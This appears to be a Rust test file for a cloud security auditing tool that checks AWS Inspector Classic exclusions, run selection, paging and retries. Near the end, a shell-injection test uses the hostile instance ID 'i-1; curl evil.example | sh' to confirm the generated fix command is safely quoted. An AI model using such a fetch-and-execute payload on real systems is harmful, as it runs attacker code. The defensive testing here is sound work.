#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The judge on snapshots built by hand (tables and insta snapshots), the
//! fetch against the scripted `FakeClassic`, and one evaluation through the
//! rule to show the two are wired together.

use super::fetch::{fetch, Snapshot, DESCRIBE_RETRIES, ITEM_GONE};
use super::judge::{judge, select_runs, COMPLETED_STATES};
use super::*;
use blindspot_aws::classic::{AssessmentRun, Exclusion, FailedItem, KeyValue};
use blindspot_aws::testing::{FakeClassic, Fakes};
use blindspot_aws::{AwsError, AwsErrorKind};
use blindspot_core::{EvaluationStatus, NoPeers, Scope, Severity};
use chrono::{DateTime, Utc};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

const TEMPLATE: &str =
    "arn:aws:inspector:us-east-1:123456789012:target/0-abcdabcd/template/0-12341234";
const OTHER_TEMPLATE: &str = "arn:aws:inspector:us-east-1:123456789012:target/0-t/template/0-2";
const PACKAGE: &str = "arn:aws:inspector:us-east-1:316112463485:rulespackage/0-gEjTy7T7";

fn now() -> DateTime<Utc> {
    "2026-11-22T12:00:00Z".parse().unwrap()
}

fn scope() -> Scope {
    Scope::new("123456789012", "us-east-1")
}

fn run(id: &str, template: &str, state: &str, days_ago: i64) -> AssessmentRun {
    let at = now() - chrono::Duration::days(days_ago);
    AssessmentRun {
        arn: format!("{template}/run/{id}"),
        name: format!("run {id}"),
        template_arn: template.to_owned(),
        state: state.to_owned(),
        rules_package_arns: vec![PACKAGE.into()],
        created_at: Some(at),
        started_at: Some(at),
        completed_at: COMPLETED_STATES.contains(&state).then_some(at),
        state_changed_at: Some(at),
    }
}

fn kv(key: &str, value: &str) -> KeyValue {
    KeyValue {
        key: key.to_owned(),
        value: Some(value.to_owned()),
    }
}

/// An exclusion of `run` with the given scopes and no attributes.
fn exclusion(run: &AssessmentRun, id: &str, title: &str, scopes: Vec<KeyValue>) -> Exclusion {
    Exclusion {
        arn: format!("{}/exclusion/{id}", run.arn),
        title: title.to_owned(),
        description: format!("{title} description"),
        recommendation: format!("{title} recommendation"),
        scopes,
        attributes: vec![],
    }
}

fn on_instance(run: &AssessmentRun, id: &str, title: &str, instance: &str) -> Exclusion {
    exclusion(run, id, title, vec![kv("INSTANCE_ID", instance)])
}

fn config(runs: RunSelection) -> ExclusionsConfig {
    ExclusionsConfig {
        runs,
        ..ExclusionsConfig::default()
    }
}

/// The snapshot a fetch at `now()` with the default lookback would return,
/// except that it may hold exclusions of runs the judge does not select.
fn snapshot(runs: Vec<AssessmentRun>, exclusions: Vec<Exclusion>) -> Snapshot {
    let mut by_run: BTreeMap<String, Vec<Exclusion>> = BTreeMap::new();
    for e in exclusions {
        let run = runs
            .iter()
            .find(|r| e.arn.starts_with(&format!("{}/", r.arn)))
            .expect("the exclusion's run is in the snapshot");
        by_run.entry(run.arn.clone()).or_default().push(e);
    }
    Snapshot {
        window_start: now() - chrono::Duration::days(30),
        runs_listed: runs.len(),
        runs,
        exclusions: by_run,
    }
}

fn resources(report: &RuleReport) -> Vec<&str> {
    let set: BTreeSet<&str> = report
        .findings
        .iter()
        .map(|f| f.resource.as_str())
        .collect();
    set.into_iter().collect()
}

// ---------------------------------------------------------------- the judge

/// A region with most of what the judge meets: instance scopes in both
/// spellings, an instance named only by an attribute, an exclusion without an
/// instance, a superseded run, a failed run, and a run outside the window.
fn mixed_region() -> Snapshot {
    let current = run("0-aabbccdd", TEMPLATE, "COMPLETED", 2);
    let superseded = run("0-aaaabbbb", TEMPLATE, "COMPLETED", 9);
    let failed = run("0-f", OTHER_TEMPLATE, "FAILED", 1);
    let ancient = run(
        "0-ancient",
        "arn:aws:inspector:us-east-1:123456789012:target/0-t/template/0-3",
        "COMPLETED",
        45,
    );
    let mut by_attribute = exclusion(
        &current,
        "0-c",
        "Unsupported OS version",
        vec![kv("RULES_PACKAGE_ARN", "arn:pkg")],
    );
    by_attribute.attributes = vec![kv("INSTANCE_ID", "i-3")];
    let exclusions = vec![
        exclusion(
            &current,
            "0-a",
            "Agent not found",
            vec![kv("instanceId", "i-0abcd1234abcd1234")],
        ),
        on_instance(&current, "0-b", "Unsupported OS version", "i-2"),
        by_attribute,
        exclusion(
            &current,
            "0-d",
            "No EC2 instances found",
            vec![kv("RULES_PACKAGE_ARN", PACKAGE)],
        ),
        on_instance(&superseded, "0-e", "Agent not found", "i-superseded"),
        on_instance(&ancient, "0-g", "Agent not found", "i-ancient"),
    ];
    snapshot(vec![current, superseded, failed, ancient], exclusions)
}

#[test]
fn a_mixed_region_judged_with_the_latest_runs() {
    let report = judge(&mixed_region(), &ExclusionsConfig::default(), &scope());
    insta::with_settings!({snapshot_path => "../snapshots"}, {
        insta::assert_json_snapshot!("exclusions_mixed_latest", report);
    });
}

#[test]
fn a_mixed_region_judged_with_all_runs() {
    let report = judge(&mixed_region(), &config(RunSelection::All), &scope());
    insta::with_settings!({snapshot_path => "../snapshots"}, {
        insta::assert_json_snapshot!("exclusions_mixed_all", report);
    });
}

#[test]
fn agent_not_found_carries_the_install_command() {
    let report = judge(&mixed_region(), &ExclusionsConfig::default(), &scope());
    let f = report
        .findings
        .iter()
        .find(|f| f.resource == "i-0abcd1234abcd1234")
        .unwrap();
    assert_eq!(f.code, "AGENT_NOT_FOUND");
    assert_eq!(f.severity, Severity::Medium);
    assert_eq!(
        f.remediation.as_deref(),
        Some(
            "aws ssm send-command --document-name AmazonInspector-ManageAWSAgent \
             --parameters '{\"Operation\":[\"Install\"]}' \
             --targets Key=InstanceIds,Values=i-0abcd1234abcd1234 --region us-east-1"
        )
    );
    assert_eq!(f.details["assessment_template_arn"], TEMPLATE);
}

#[test]
fn the_resource_of_an_exclusion_comes_from_its_scopes_then_its_attributes() {
    let r = run("0-1", TEMPLATE, "COMPLETED", 1);
    // (scopes, attributes, title) → (resources, rules packages, install command?)
    type Case = (
        Vec<KeyValue>,
        Vec<KeyValue>,
        &'static str,
        &'static [&'static str],
        &'static [&'static str],
        bool,
    );
    let cases: Vec<Case> = vec![
        (
            vec![kv("INSTANCE_ID", "i-1")],
            vec![],
            "Agent not found",
            &["i-1"],
            &[PACKAGE],
            true,
        ),
        (
            vec![kv("instanceId", "i-2")],
            vec![],
            "Agent not found",
            &["i-2"],
            &[PACKAGE],
            true,
        ),
        (
            vec![kv("instance-id", "i-2")],
            vec![],
            "Unsupported OS version",
            &["i-2"],
            &[PACKAGE],
            false,
        ),
        (
            vec![kv("RULES_PACKAGE_ARN", "arn:pkg")],
            vec![kv("INSTANCE_ID", "i-3")],
            "Agent not found",
            &["i-3"],
            &["arn:pkg"],
            true,
        ),
        // A scope wins over an attribute; two scopes of one instance are one.
        (
            vec![kv("INSTANCE_ID", "i-4"), kv("instanceId", "i-4")],
            vec![kv("INSTANCE_ID", "i-other")],
            "Agent not found",
            &["i-4"],
            &[PACKAGE],
            true,
        ),
        (
            vec![kv("INSTANCE_ID", "i-5"), kv("INSTANCE_ID", "i-6")],
            vec![],
            "Agent not found",
            &["i-5", "i-6"],
            &[PACKAGE],
            true,
        ),
        // No instance: the template, which outlives the run, and no command.
        (
            vec![kv("RULES_PACKAGE_ARN", PACKAGE)],
            vec![],
            "Agent not found",
            &[TEMPLATE],
            &[PACKAGE],
            false,
        ),
        (
            vec![KeyValue {
                key: "INSTANCE_ID".into(),
                value: Some(String::new()),
            }],
            vec![],
            "Agent not found",
            &[TEMPLATE],
            &[PACKAGE],
            false,
        ),
    ];
    for (i, (scopes, attributes, title, want, packages, command)) in cases.into_iter().enumerate() {
        let mut e = exclusion(&r, &format!("0-{i}"), title, scopes);
        e.attributes = attributes;
        let report = judge(
            &snapshot(vec![r.clone()], vec![e]),
            &ExclusionsConfig::default(),
            &scope(),
        );
        assert_eq!(resources(&report), want, "case {i}");
        for f in &report.findings {
            assert_eq!(f.details["rules_package_arns"], serde_json::json!(packages));
            assert_eq!(f.details["assessment_run_arn"], r.arn, "case {i}");
            assert_eq!(f.remediation.is_some(), command, "case {i}");
        }
    }
}

#[test]
fn an_exclusion_without_instance_scope_is_reported_on_the_template() {
    // The same exclusion in two consecutive runs of one template: the finding
    // keeps its ID, and its details name the run that reported it.
    let first = run("0-1", TEMPLATE, "COMPLETED", 8);
    let second = run("0-2", TEMPLATE, "COMPLETED", 1);
    let without_instance = |r: &AssessmentRun| {
        exclusion(
            r,
            "0-a",
            "Agent not found",
            vec![kv("RULES_PACKAGE_ARN", PACKAGE)],
        )
    };
    let before = judge(
        &snapshot(vec![first.clone()], vec![without_instance(&first)]),
        &ExclusionsConfig::default(),
        &scope(),
    );
    let after = judge(
        &snapshot(
            vec![first.clone(), second.clone()],
            vec![without_instance(&first), without_instance(&second)],
        ),
        &ExclusionsConfig::default(),
        &scope(),
    );
    assert_eq!(before.findings.len(), 1);
    assert_eq!(after.findings.len(), 1);
    let (before, after) = (&before.findings[0], &after.findings[0]);
    assert_eq!(before.resource, TEMPLATE);
    assert_eq!(after.resource, TEMPLATE);
    assert_eq!(before.id, after.id);
    assert!(after.remediation.is_none());
    assert_eq!(before.details["assessment_run_arn"], first.arn);
    assert_eq!(after.details["assessment_run_arn"], second.arn);
    assert_eq!(
        after.details["reported_by_runs"],
        serde_json::json!([second.arn])
    );
}

#[test]
fn a_failed_run_is_reported_on_the_run_itself() {
    let first = run("0-1", TEMPLATE, "FAILED", 8);
    let second = run("0-2", TEMPLATE, "ERROR", 1);
    let report = judge(
        &snapshot(vec![first.clone(), second.clone()], vec![]),
        &ExclusionsConfig::default(),
        &scope(),
    );
    assert_eq!(
        resources(&report),
        [first.arn.as_str(), second.arn.as_str()]
    );
    assert!(report
        .findings
        .iter()
        .all(|f| f.code == "ASSESSMENT_RUN_FAILED"));
    assert_ne!(report.findings[0].id, report.findings[1].id);
}

#[test]
fn the_same_exclusion_in_two_runs_is_one_finding_naming_both_runs() {
    let new = run("0-new", TEMPLATE, "COMPLETED", 1);
    let old = run("0-old", TEMPLATE, "COMPLETED", 3);
    let report = judge(
        &snapshot(
            vec![new.clone(), old.clone()],
            vec![
                on_instance(&new, "0-a", "Agent not found", "i-1"),
                on_instance(&old, "0-b", "Agent not found", "i-1"),
            ],
        ),
        &config(RunSelection::All),
        &scope(),
    );
    assert_eq!(report.findings.len(), 1);
    assert_eq!(
        report.findings[0].details["reported_by_runs"],
        serde_json::json!([new.arn, old.arn])
    );
    assert_eq!(report.counts["exclusions"], 2);
}

#[test]
fn run_selection() {
    let t2 = OTHER_TEMPLATE;
    let t3 = "arn:aws:inspector:us-east-1:123456789012:target/0-t/template/0-3";
    let new = run("0-new", TEMPLATE, "COMPLETED_WITH_ERRORS", 1);
    let old = run("0-old", TEMPLATE, "COMPLETED", 5);
    let other = run("0-other", t2, "COMPLETED", 9);
    let ancient = run("0-ancient", t3, "COMPLETED", 45);
    let failed_before_new = run("0-f-old", TEMPLATE, "FAILED", 2);
    let failed_after_other = run("0-f-new", t2, "ERROR", 3);
    let failed_alone = run("0-f-alone", t3, "FAILED", 4);
    let failed_ancient = run("0-f-ancient", t3, "FAILED", 40);
    let pending = run("0-pending", t3, "START_DATA_COLLECTION_PENDING", 1);
    let tie_b = run("0-b", t3, "COMPLETED", 6);
    let tie_a = run("0-a", t3, "COMPLETED", 6);
    let arn = |r: &AssessmentRun| r.arn.clone();

    // (runs, mode) → (current, failed, superseded)
    type Case = (
        &'static str,
        Vec<AssessmentRun>,
        RunSelection,
        Vec<String>,
        Vec<String>,
        usize,
    );
    let cases: Vec<Case> = vec![
        (
            "latest: the newest completed run of each template in the window",
            vec![old.clone(), new.clone(), other.clone(), ancient.clone()],
            RunSelection::Latest,
            vec![arn(&new), arn(&other)],
            vec![],
            1,
        ),
        (
            "all: every completed run in the window",
            vec![old.clone(), new.clone(), other.clone(), ancient.clone()],
            RunSelection::All,
            vec![arn(&new), arn(&old), arn(&other)],
            vec![],
            0,
        ),
        (
            "latest: a failed run older than its template's latest completed run is superseded",
            vec![
                new.clone(),
                other.clone(),
                failed_before_new.clone(),
                failed_after_other.clone(),
                failed_alone.clone(),
                failed_ancient.clone(),
            ],
            RunSelection::Latest,
            vec![arn(&new), arn(&other)],
            vec![arn(&failed_after_other), arn(&failed_alone)],
            1,
        ),
        (
            "all: every failed run in the window",
            vec![
                new.clone(),
                other.clone(),
                failed_before_new.clone(),
                failed_after_other.clone(),
                failed_alone.clone(),
                failed_ancient.clone(),
            ],
            RunSelection::All,
            vec![arn(&new), arn(&other)],
            vec![
                arn(&failed_before_new),
                arn(&failed_after_other),
                arn(&failed_alone),
            ],
            0,
        ),
        (
            "a run in another state is neither current nor failed",
            vec![pending.clone()],
            RunSelection::Latest,
            vec![],
            vec![],
            0,
        ),
        (
            "runs that ended at the same time: the lower ARN is the latest",
            vec![tie_b.clone(), tie_a.clone()],
            RunSelection::Latest,
            vec![arn(&tie_a)],
            vec![],
            1,
        ),
    ];
    let window_start = now() - chrono::Duration::days(30);
    for (name, runs, mode, current, failed, superseded) in cases {
        let selection = select_runs(&runs, mode, window_start);
        let arns = |list: &[&AssessmentRun]| list.iter().map(|r| r.arn.clone()).collect::<Vec<_>>();
        assert_eq!(arns(&selection.current), current, "{name}");
        assert_eq!(arns(&selection.failed), failed, "{name}");
        assert_eq!(selection.superseded, superseded, "{name}");
    }
}

#[test]
fn exclusions_of_runs_that_are_not_selected_are_not_judged() {
    let new = run("0-new", TEMPLATE, "COMPLETED", 1);
    let old = run("0-old", TEMPLATE, "COMPLETED", 5);
    let report = judge(
        &snapshot(
            vec![new.clone(), old.clone()],
            vec![
                on_instance(&new, "0-a", "Agent not found", "i-new"),
                on_instance(&old, "0-b", "Agent not found", "i-old"),
            ],
        ),
        &ExclusionsConfig::default(),
        &scope(),
    );
    assert_eq!(resources(&report), ["i-new"]);
    assert_eq!(report.counts["runs_superseded"], 1);
    assert_eq!(report.counts["exclusions"], 1);
}

#[test]
fn title_codes_are_stable() {
    for (title, code) in [
        ("Agent not found", "AGENT_NOT_FOUND"),
        ("  Unsupported OS version!", "UNSUPPORTED_OS_VERSION"),
        ("No EC2 instances found", "NO_EC2_INSTANCES_FOUND"),
        ("Agent -- not   found", "AGENT_NOT_FOUND"),
        ("***", "EXCLUSION"),
        ("", "EXCLUSION"),
    ] {
        assert_eq!(title_code(title), code, "{title:?}");
    }
}

// ---------------------------------------------------------------- the fetch

fn classic(runs: Vec<AssessmentRun>, exclusions: Vec<Exclusion>, page_size: usize) -> FakeClassic {
    let snapshot = snapshot(runs, exclusions);
    FakeClassic {
        runs: snapshot.runs,
        exclusions: snapshot.exclusions,
        page_size,
        ..FakeClassic::default()
    }
}

async fn fetched(fake: &FakeClassic, config: &ExclusionsConfig) -> Result<Snapshot, RuleError> {
    // A fetch that loops would hang the test; fail it instead.
    tokio::time::timeout(
        std::time::Duration::from_secs(10),
        fetch(fake, config, now()),
    )
    .await
    .expect("the fetch finishes")
}

/// The number of ARNs in each call of `operation`, in order.
fn batch_sizes(fake: &FakeClassic, operation: &str) -> Vec<usize> {
    fake.script
        .calls()
        .iter()
        .filter(|c| c.operation == operation)
        .map(|c| c.argument.split(',').count())
        .collect()
}

fn failed_item(arn: &str, code: &str, retryable: bool) -> FailedItem {
    FailedItem {
        arn: arn.to_owned(),
        code: code.to_owned(),
        retryable,
    }
}

#[tokio::test]
async fn run_listings_are_paged_and_described_in_batches_of_10() {
    let mut runs: Vec<AssessmentRun> = (0..25)
        .map(|i| {
            let template = format!("{TEMPLATE}{i}");
            run(&format!("0-{i}"), &template, "COMPLETED", 1)
        })
        .collect();
    runs.push(run("0-f", TEMPLATE, "FAILED", 60));
    runs.push(run("0-too-old", TEMPLATE, "COMPLETED", 60));
    let fake = classic(runs, vec![], 3);
    let snapshot = fetched(&fake, &ExclusionsConfig::default()).await.unwrap();

    // Completed runs: 25 in the window in 9 pages of 3; failed runs: 1 page.
    assert_eq!(fake.script.count("ListAssessmentRuns"), 10);
    assert_eq!(
        snapshot.runs_listed, 26,
        "the failed run is listed at any age"
    );
    assert_eq!(
        batch_sizes(&fake, "DescribeAssessmentRuns"),
        [10, 10, 6],
        "one call per ten runs"
    );
    assert_eq!(snapshot.runs.len(), 26);
    assert_eq!(snapshot.window_start, now() - chrono::Duration::days(30));
    assert_eq!(fake.script.count("ListExclusions"), 25);
}

#[tokio::test]
async fn exclusions_are_read_only_for_the_selected_runs() {
    let new = run("0-new", TEMPLATE, "COMPLETED", 1);
    let old = run("0-old", TEMPLATE, "COMPLETED", 5);
    let failed = run("0-f", OTHER_TEMPLATE, "FAILED", 2);
    let exclusions = vec![
        on_instance(&new, "0-a", "Agent not found", "i-new"),
        on_instance(&old, "0-b", "Agent not found", "i-old"),
    ];
    let listed_for = |fake: &FakeClassic| -> Vec<String> {
        fake.script
            .calls()
            .into_iter()
            .filter(|c| c.operation == "ListExclusions")
            .map(|c| c.argument)
            .collect()
    };

    let latest = classic(
        vec![new.clone(), old.clone(), failed.clone()],
        exclusions.clone(),
        0,
    );
    let snapshot = fetched(&latest, &ExclusionsConfig::default())
        .await
        .unwrap();
    assert_eq!(listed_for(&latest), [new.arn.as_str()]);
    assert_eq!(snapshot.exclusions.keys().collect::<Vec<_>>(), [&new.arn]);
    assert_eq!(snapshot.exclusions[&new.arn], exclusions[..1]);

    let all = classic(vec![new.clone(), old.clone(), failed], exclusions, 0);
    let snapshot = fetched(&all, &config(RunSelection::All)).await.unwrap();
    assert_eq!(listed_for(&all), [new.arn.as_str(), old.arn.as_str()]);
    assert_eq!(snapshot.exclusions.len(), 2);
}

#[tokio::test]
async fn describes_in_batches_of_100_and_retries_retryable_failures() {
    let r = run("0-1", TEMPLATE, "COMPLETED", 1);
    let list: Vec<Exclusion> = (0..250)
        .map(|i| {
            on_instance(
                &r,
                &format!("0-{i}"),
                "Agent not found",
                &format!("i-{i:04}"),
            )
        })
        .collect();
    let flaky = list[7].arn.clone();
    let fake = classic(vec![r.clone()], list, 100);
    fake.failed_items
        .lock()
        .unwrap()
        .push_back(vec![failed_item(&flaky, "INTERNAL_ERROR", true)]);
    let snapshot = fetched(&fake, &ExclusionsConfig::default()).await.unwrap();
    assert_eq!(snapshot.exclusions[&r.arn].len(), 250);
    assert_eq!(fake.script.count("ListExclusions"), 3, "pages of 100");
    assert_eq!(
        batch_sizes(&fake, "DescribeExclusions"),
        [100, 1, 100, 50],
        "the retry asks for the failed item alone"
    );
}

#[tokio::test]
async fn an_exclusion_gone_between_list_and_describe_is_not_a_gap() {
    let r = run("0-1", TEMPLATE, "COMPLETED", 1);
    let kept = on_instance(&r, "0-a", "Agent not found", "i-1");
    let gone = on_instance(&r, "0-b", "Agent not found", "i-2");
    let fake = classic(vec![r.clone()], vec![kept.clone(), gone.clone()], 0);
    fake.failed_items
        .lock()
        .unwrap()
        .push_back(vec![failed_item(&gone.arn, ITEM_GONE, false)]);
    let snapshot = fetched(&fake, &ExclusionsConfig::default()).await.unwrap();
    assert_eq!(snapshot.exclusions[&r.arn], [kept]);
    assert_eq!(fake.script.count("DescribeExclusions"), 1);
}

#[tokio::test]
async fn an_item_that_keeps_failing_or_cannot_be_retried_fails_the_fetch() {
    let r = run("0-1", TEMPLATE, "COMPLETED", 1);
    let e = on_instance(&r, "0-a", "Agent not found", "i-1");

    // (scripted answers, calls made, message)
    let cases = [
        (
            vec![vec![failed_item(&e.arn, "INTERNAL_ERROR", true)]; DESCRIBE_RETRIES + 1],
            DESCRIBE_RETRIES + 1,
            "(INTERNAL_ERROR, still failing after retries)",
        ),
        (
            vec![vec![failed_item(&e.arn, "ACCESS_DENIED", false)]],
            1,
            "(ACCESS_DENIED)",
        ),
    ];
    for (answers, calls, message) in cases {
        let fake = classic(vec![r.clone()], vec![e.clone()], 0);
        fake.failed_items.lock().unwrap().extend(answers);
        let err = fetched(&fake, &ExclusionsConfig::default())
            .await
            .unwrap_err();
        assert_eq!(err.status(), EvaluationStatus::Error);
        assert!(err.to_string().contains(message), "{err}");
        assert!(err.to_string().contains(&e.arn), "{err}");
        assert_eq!(fake.script.count("DescribeExclusions"), calls, "{message}");
    }
}

#[tokio::test]
async fn a_retired_service_is_unavailable_and_a_denial_anywhere_is_an_error() {
    let r = run("0-1", TEMPLATE, "COMPLETED", 1);
    let e = on_instance(&r, "0-a", "Agent not found", "i-1");
    let denied =
        |operation| AwsError::new("inspector", operation, AwsErrorKind::AccessDenied, "denied");
    // (operation, error, status)
    let cases = [
        (
            "ListAssessmentRuns",
            AwsError::from_code(
                "inspector",
                "ListAssessmentRuns",
                "UnknownOperationException",
                "retired",
            ),
            EvaluationStatus::Unavailable,
        ),
        (
            "ListAssessmentRuns",
            denied("ListAssessmentRuns"),
            EvaluationStatus::Error,
        ),
        (
            "DescribeAssessmentRuns",
            denied("DescribeAssessmentRuns"),
            EvaluationStatus::Error,
        ),
        (
            "ListExclusions",
            denied("ListExclusions"),
            EvaluationStatus::Error,
        ),
        (
            "DescribeExclusions",
            denied("DescribeExclusions"),
            EvaluationStatus::Error,
        ),
    ];
    for (operation, error, status) in cases {
        let fake = classic(vec![r.clone()], vec![e.clone()], 0);
        fake.script.fail_next(operation, error);
        let err = fetched(&fake, &ExclusionsConfig::default())
            .await
            .unwrap_err();
        assert_eq!(err.status(), status, "{operation}: {err}");
        assert!(err.to_string().contains(operation), "{err}");
    }
}

#[tokio::test]
async fn a_repeated_next_token_fails_the_fetch_instead_of_looping() {
    let r = run("0-1", TEMPLATE, "COMPLETED", 1);
    let exclusions: Vec<Exclusion> = (0..5)
        .map(|i| on_instance(&r, &format!("0-{i}"), "Agent not found", &format!("i-{i}")))
        .collect();

    // The run listing fits one page; the exclusions take three pages of 2.
    let mut fake = classic(vec![r.clone()], exclusions, 2);
    fake.repeat_tokens = true;
    let err = fetched(&fake, &ExclusionsConfig::default())
        .await
        .unwrap_err();
    assert_eq!(err.status(), EvaluationStatus::Error);
    let message = err.to_string();
    assert!(
        message.contains("inspector:ListExclusions") && message.contains("twice"),
        "{message}"
    );
    assert_eq!(fake.script.count("ListExclusions"), 2);

    // The run listing goes through the same guard.
    let runs: Vec<AssessmentRun> = (0..5)
        .map(|i| run(&format!("0-{i}"), TEMPLATE, "COMPLETED", 1))
        .collect();
    let mut fake = classic(runs, vec![], 2);
    fake.repeat_tokens = true;
    let err = fetched(&fake, &ExclusionsConfig::default())
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("inspector:ListAssessmentRuns"),
        "{err}"
    );
}

#[tokio::test]
async fn a_lookback_beyond_the_calendar_fails_instead_of_panicking() {
    let fake = FakeClassic::default();
    let config = ExclusionsConfig {
        lookback: std::time::Duration::from_secs(u64::MAX / 2),
        ..ExclusionsConfig::default()
    };
    let err = fetched(&fake, &config).await.unwrap_err();
    assert_eq!(err.status(), EvaluationStatus::Error);
    assert!(err.to_string().contains("lookback"), "{err}");
    assert!(fake.script.calls().is_empty());
}

// ---------------------------------------------------------------- the rule

#[tokio::test]
async fn the_rule_judges_what_it_fetched() {
    let snapshot = mixed_region();
    let fakes = Fakes {
        classic: Arc::new(FakeClassic {
            runs: snapshot.runs.clone(),
            exclusions: snapshot.exclusions.clone(),
            ..FakeClassic::default()
        }),
        ..Fakes::default()
    };
    let rule = ExclusionsRule::new(&ExclusionsConfig::default());
    assert_eq!(rule.meta().id, ID);
    assert_eq!(rule.meta().aliases, ["Inspector-003"]);
    let report = crate::test_support::evaluate(&rule, &fakes, &scope(), now(), &NoPeers)
        .await
        .unwrap();

    // The fetch sees neither the run outside the window nor the superseded
    // run's exclusions; neither changes the judgement of the hand-built
    // snapshot, apart from the one run the listing filtered out.
    let mut expected = judge(&snapshot, &ExclusionsConfig::default(), &scope());
    expected.counts.insert("runs_listed".into(), 3);
    assert_eq!(report, expected);
    assert_eq!(fakes.classic.script.count("ListExclusions"), 1);
}

#[test]
fn an_instance_id_from_aws_is_one_shell_word_in_the_fix() {
    assert_eq!(
        install_agent_command("i-0abcd1234abcd1234", "us-east-1"),
        "aws ssm send-command --document-name AmazonInspector-ManageAWSAgent --parameters \
         '{\"Operation\":[\"Install\"]}' --targets Key=InstanceIds,Values=i-0abcd1234abcd1234 \
         --region us-east-1"
    );
    let hostile = install_agent_command("i-1; curl evil.example | sh", "us-east-1");
    assert!(
        hostile.contains("Values='i-1; curl evil.example | sh' --region"),
        "{hostile}"
    );
}

/// A classic region whose every call takes 20 ms, counting calls in flight.
struct Slow {
    inner: FakeClassic,
    in_flight: std::sync::atomic::AtomicUsize,
    most: std::sync::atomic::AtomicUsize,
}

impl Slow {
    async fn call<T>(&self, answer: impl std::future::Future<Output = T>) -> T {
        use std::sync::atomic::Ordering::SeqCst;
        let now = self.in_flight.fetch_add(1, SeqCst) + 1;
        self.most.fetch_max(now, SeqCst);
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        let answer = answer.await;
        self.in_flight.fetch_sub(1, SeqCst);
        answer
    }
}

#[async_trait::async_trait]
impl blindspot_aws::InspectorClassicApi for Slow {
    async fn list_assessment_runs(
        &self,
        query: &blindspot_aws::classic::RunQuery,
        next_token: Option<String>,
    ) -> Result<blindspot_aws::Page<String>, AwsError> {
        self.call(self.inner.list_assessment_runs(query, next_token))
            .await
    }

    async fn describe_assessment_runs(
        &self,
        arns: &[String],
    ) -> Result<Vec<AssessmentRun>, AwsError> {
        self.call(self.inner.describe_assessment_runs(arns)).await
    }

    async fn list_exclusions(
        &self,
        run_arn: &str,
        next_token: Option<String>,
    ) -> Result<blindspot_aws::Page<String>, AwsError> {
        self.call(self.inner.list_exclusions(run_arn, next_token))
            .await
    }

    async fn describe_exclusions(
        &self,
        arns: &[String],
    ) -> Result<blindspot_aws::classic::ExclusionBatch, AwsError> {
        self.call(self.inner.describe_exclusions(arns)).await
    }
}

#[tokio::test(start_paused = true)]
async fn independent_calls_run_side_by_side_within_the_concurrency() {
    // Five templates with a run each, 30 exclusions per run (one
    // DescribeExclusions batch): the critical path is four calls (list runs,
    // describe runs, list a run's exclusions, describe them).
    let runs: Vec<AssessmentRun> = (0..5)
        .map(|i| run(&format!("0-{i}"), &format!("{TEMPLATE}{i}"), "COMPLETED", 1))
        .collect();
    let exclusions: Vec<Exclusion> = runs
        .iter()
        .flat_map(|r| {
            (0..30).map(move |j| exclusion(r, &format!("x-{j}"), "Agent not found", vec![]))
        })
        .collect();
    let sweep = |concurrency: usize| {
        let (runs, exclusions) = (runs.clone(), exclusions.clone());
        async move {
            let slow = Slow {
                inner: classic(runs, exclusions, 0),
                in_flight: Default::default(),
                most: Default::default(),
            };
            let config = ExclusionsConfig {
                concurrency,
                ..ExclusionsConfig::default()
            };
            let started = tokio::time::Instant::now();
            let snapshot = fetch(&slow, &config, now()).await.unwrap();
            let most = slow.most.load(std::sync::atomic::Ordering::SeqCst);
            (snapshot, started.elapsed().as_millis(), most)
        }
    };
    let (serial, serial_ms, serial_most) = sweep(1).await;
    let (wide, wide_ms, wide_most) = sweep(8).await;
    assert_eq!(
        serial, wide,
        "the same snapshot however the calls interleave"
    );
    assert_eq!(wide.exclusions.values().map(Vec::len).sum::<usize>(), 150);
    // One at a time: 2 run listings + 1 describe + 5 × (list + describe).
    assert_eq!((serial_ms, serial_most), (13 * 20, 1));
    // Side by side: the critical path.
    assert_eq!(wide_ms, 4 * 20);
    assert!(wide_most > 1 && wide_most <= 8, "{wide_most}");
}
